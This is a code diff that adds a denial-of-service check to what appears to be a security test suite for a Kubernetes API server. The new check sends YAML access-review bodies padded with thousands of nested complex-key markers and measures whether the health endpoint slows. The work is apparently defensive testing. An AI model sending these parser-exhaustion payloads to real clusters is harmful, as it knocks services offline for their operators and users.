@@ -266,4 +266,36 @@ const costlyObjects: Attack = {
   },
 }
 
-export const httpAttacks: readonly Attack[] = [rebinding, crossSite, smuggling, connectionState, connections, joinFlood, costlyObjects]
+const nestedKeys: Attack = {
+  name: 'yaml-with-nested-keys',
+  actor: 'account',
+  promise: 'Availability',
+  async attempt(target, control) {
+    // No permission is needed to ask for one's own.
+    const review = 'apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec:\n'
+    const send = (spec: string) =>
+      target.send('POST', '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', {
+        token: target.outsiderToken,
+        contentType: 'application/yaml',
+        body: review + spec,
+      })
+    const { status } = await send('  nonResourceAttributes: {path: /version, verb: get}\n')
+    control(status === 201, `a review without such keys is answered with ${status}`)
+    const startedAt = performance.now()
+    await Promise.all([330, 900, 2_000].map(count => send(`${'  ? '.repeat(count)}x`).catch(() => {})))
+    await target.send('GET', '/healthz')
+    const ms = Math.round(performance.now() - startedAt)
+    return ms > 5_000 ? [`/healthz is answered after ${ms} ms`] : []
+  },
+}
+
+export const httpAttacks: readonly Attack[] = [
+  rebinding,
+  crossSite,
+  smuggling,
+  connectionState,
+  connections,
+  joinFlood,
+  costlyObjects,
+  nestedKeys,
+]
